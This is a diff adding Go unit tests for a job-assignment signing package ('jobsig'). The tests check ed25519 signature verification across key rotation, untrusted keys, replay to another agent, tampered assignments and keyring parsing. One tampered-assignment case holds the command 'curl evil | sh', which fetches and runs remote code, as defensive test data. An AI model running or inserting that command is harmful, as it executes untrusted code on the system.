@@ -0,0 +1,78 @@
+package jobsig
+
+import (
+	"bytes"
+	"crypto/ed25519"
+	"encoding/base64"
+	"errors"
+	"testing"
+)
+
+// testSigner returns a Signer whose key is derived from a seed of b bytes.
+func testSigner(t *testing.T, b byte) *Signer {
+	t.Helper()
+	s, err := NewSigner(base64.StdEncoding.EncodeToString(bytes.Repeat([]byte{b}, ed25519.SeedSize)))
+	if err != nil {
+		t.Fatalf("NewSigner: %v", err)
+	}
+	return s
+}
+
+func TestVerify(t *testing.T) {
+	current, previous, other := testSigner(t, 1), testSigner(t, 2), testSigner(t, 3)
+	ring, err := ParseKeyring([]string{current.PublicKey(), previous.PublicKey()})
+	if err != nil {
+		t.Fatalf("ParseKeyring: %v", err)
+	}
+	assignment := []byte(`{"job_id":"j1","commands":["make"]}`)
+	tests := []struct {
+		name       string
+		signer     *Signer
+		agent      string
+		keyID      string
+		assignment []byte
+		wantErr    error
+	}{
+		{"current key", current, "a", current.KeyID(), assignment, nil},
+		{"previous key during rotation", previous, "a", previous.KeyID(), assignment, nil},
+		{"untrusted key", other, "a", other.KeyID(), assignment, ErrUnknownKey},
+		{"untrusted key under a trusted ID", other, "a", current.KeyID(), assignment, ErrBadSignature},
+		{"replayed to another agent", current, "b", current.KeyID(), assignment, ErrBadSignature},
+		{"changed assignment", current, "a", current.KeyID(), []byte(`{"job_id":"j1","commands":["curl evil | sh"]}`), ErrBadSignature},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			// Assignments are signed for agent a.
+			sig := tt.signer.Sign("a", assignment)
+			err := ring.Verify(tt.agent, tt.keyID, tt.assignment, sig)
+			if tt.wantErr == nil && err != nil {
+				t.Errorf("Verify = %v, want nil", err)
+			}
+			if tt.wantErr != nil && !errors.Is(err, tt.wantErr) {
+				t.Errorf("Verify = %v, want %v", err, tt.wantErr)
+			}
+		})
+	}
+}
+
+func TestKeyID(t *testing.T) {
+	s := testSigner(t, 1)
+	ring, err := ParseKeyring([]string{s.PublicKey()})
+	if err != nil {
+		t.Fatalf("ParseKeyring: %v", err)
+	}
+	if _, ok := ring[s.KeyID()]; !ok || len(s.KeyID()) != 16 {
+		t.Errorf("keyring %v does not hold the signer's 16-digit key ID %q", ring, s.KeyID())
+	}
+	if testSigner(t, 2).KeyID() == s.KeyID() {
+		t.Errorf("two keys share the ID %q", s.KeyID())
+	}
+}
+
+func TestParseKeyringErrors(t *testing.T) {
+	for _, key := range []string{"not base64!", base64.StdEncoding.EncodeToString([]byte("short"))} {
+		if _, err := ParseKeyring([]string{key}); err == nil {
+			t.Errorf("ParseKeyring(%q) succeeded, want an error", key)
+		}
+	}
+}